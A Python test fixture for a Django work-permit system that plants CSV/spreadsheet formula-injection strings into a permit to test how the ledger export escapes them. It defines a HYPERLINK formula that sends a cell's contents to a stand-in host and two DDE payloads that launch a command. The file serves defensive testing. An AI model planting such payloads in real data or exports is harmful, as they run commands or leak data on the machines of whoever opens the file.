"""Formula-like strings planted in 特殊作业票, through the service, for
``test_export_formulas``: a permit of 殷行化工 (in the district official's scope, who downloads
the ledger) whose place, content, guardian and worker are formulas."""

from datetime import timedelta

from django.utils import timezone

from anjian.specialwork import services
from testsupport import world

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def plant_permit() -> list[str]:
    start = timezone.now().replace(second=0, microsecond=0)
    services.permit_create(
        world.actor("admin"),
        data={
            "enterprise": world.enterprise("yinhang_chemical").pk,
            "kind": "confined",
            "place": FORMULA,
            "content": PLUS,
            "planned_start": start,
            "planned_end": start + timedelta(hours=2),
            "guardian": AT,
            "workers": ["张三"],
        },
    )
    return [FORMULA, PLUS, AT]
